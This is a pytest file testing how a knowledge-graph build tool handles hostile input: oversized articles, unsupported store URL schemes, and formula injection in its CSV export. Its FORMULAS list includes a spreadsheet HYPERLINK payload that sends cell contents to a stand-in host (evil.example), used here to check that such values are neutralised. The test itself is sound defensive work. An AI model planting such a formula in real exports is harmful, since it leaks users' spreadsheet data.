"""Limits of `kg build` against hostile input (issue 12): the article size limit, store
locations that are neither folders nor http(s) endpoints, and spreadsheet formulas
in the event table."""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from corpus import assert_ok, assert_one_line_error, kg, write_jsonl

from kg import inputs

GOOD = {"id": "gut", "text": "Moskau – Russland griff die Ukraine an."}
BIG_TEXT = "Russland griff die Ukraine an. " * 40_000       # 1.24 MB


def test_an_article_over_the_limit_stops_the_build_before_the_store(tmp_path: Path) -> None:
    source = write_jsonl(tmp_path / "in.jsonl", [GOOD, {"id": "riesig", "text": BIG_TEXT}])
    out = tmp_path / "out"
    error = assert_one_line_error(kg("build", source, "--out", out, "--max-article-mb", "1"))
    assert f"{source}:2: article of 1.2 MB exceeds the limit of 1 MB (--max-article-mb)" in error
    assert not (out / "store").exists()


def test_skip_bad_skips_large_and_other_bad_articles_with_one_line_each(tmp_path: Path) -> None:
    source = write_jsonl(tmp_path / "in.jsonl", [GOOD, {"id": "riesig", "text": BIG_TEXT},
                                                 '{"id": "kaputt", "text": ', GOOD | {"id": "gut2"}])
    (tmp_path / "gross.txt").write_text(BIG_TEXT, encoding="utf-8")
    proc = kg("build", source, tmp_path / "gross.txt", "--out", tmp_path / "out", "--max-article-mb", "1",
              "--skip-bad")
    assert_ok(proc)
    lines = proc.stderr.splitlines()
    assert lines[0].startswith("2 articles: 2 added")
    assert lines[1] == "skipped 3 bad input(s):"
    assert lines[2] == f"  {source}:2: article of 1.2 MB exceeds the limit of 1 MB (--max-article-mb)"
    assert lines[3].startswith(f"  {source}:3: malformed JSON")
    assert lines[4:] == [f"  {tmp_path / 'gross.txt'}: article of 1.2 MB exceeds the limit of 1 MB (--max-article-mb)"]


def test_the_default_limit_takes_ordinary_articles_and_refuses_huge_ones(tmp_path: Path) -> None:
    limit = int(inputs.DEFAULT_MAX_ARTICLE_MB * inputs.MB)
    huge = tmp_path / "huge.jsonl"
    # a line just over the default limit: skipped unread, the lines after it still read
    huge.write_text('{"id": "x", "text": "' + "a" * limit + '"}\n' + '{"id": "y", "text": "Kiew."}\n',
                    encoding="utf-8")
    scan = inputs.scan([huge], max_bytes=limit)
    assert [str(p) for p in scan.problems] == [f"{huge}:1: article of 5.0 MB exceeds the limit of 5 MB "
                                               "(--max-article-mb)"]
    assert [a.id for a in inputs.articles(scan)] == ["y"]
    # without a limit the same line is an article
    assert [a.id for a in inputs.articles(inputs.scan([huge]))] == ["x", "y"]


def test_a_limit_is_a_positive_number(tmp_path: Path) -> None:
    source = write_jsonl(tmp_path / "in.jsonl", [GOOD])
    for bad in ("0", "-1", "viel", "nan"):
        proc = kg("build", source, "--out", tmp_path / "out", "--max-article-mb", bad)
        assert proc.returncode == 2 and "--max-article-mb: expected a positive number" in proc.stderr


@pytest.mark.parametrize("location", ["ftp://x", "file:///tmp/store", "sftp://host/store"])
def test_a_store_url_of_another_scheme_is_refused(tmp_path: Path, location: str) -> None:
    source = write_jsonl(tmp_path / "in.jsonl", [GOOD])
    error = assert_one_line_error(kg("build", source, "--out", tmp_path / "out", "--store", location),
                                  command="build")
    assert error == (f"kg build: error: {location}: not a store location; give a folder path or an "
                     "http:// or https:// SPARQL endpoint URL")
    error = assert_one_line_error(kg("query", "--store", location, "ASK {}"), command="query")
    assert "not a store location" in error
    assert not any(tmp_path.iterdir()) or [p.name for p in tmp_path.iterdir()] == ["in.jsonl"]
    assert not Path(location.split("://")[0] + ":").exists()


NUMBERS = {"event_scale", "text_info_start", "text_info_end", "confidence"}    # written as numbers
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klick")', "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


def test_events_csv_neutralises_formulas_in_ids_and_titles(tmp_path: Path) -> None:
    # ids are stripped of surrounding space on reading; titles are kept as given
    records = [{"id": f"{formula}{k}", "title": formula, "date": "2022-02-24",
                "text": f"Russland hat die Ukraine angegriffen. Nummer {k}."}
               for k, formula in enumerate(FORMULAS)]
    source = write_jsonl(tmp_path / "in.jsonl", records)
    out = tmp_path / "out"
    assert_ok(kg("build", source, "--out", out, "-q"))
    with (out / "events.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(row["cite_info_title"] for row in rows) == sorted("'" + f for f in FORMULAS)
    for row in rows:
        for field, value in row.items():
            if field not in NUMBERS:
                assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (field, value)
        formula = row["cite_info_title"][1:]
        k = FORMULAS.index(formula)
        given_id = f"{formula}{k}".strip()
        assert row["cite_info_citation"] == ("'" + given_id if given_id[:1] in "=+-@" else given_id)
    # the JSON export keeps the values as given
    assert {e["cite_info"]["title"] for e in json.loads((out / "events.json").read_text(encoding="utf-8"))} \
        == set(FORMULAS)
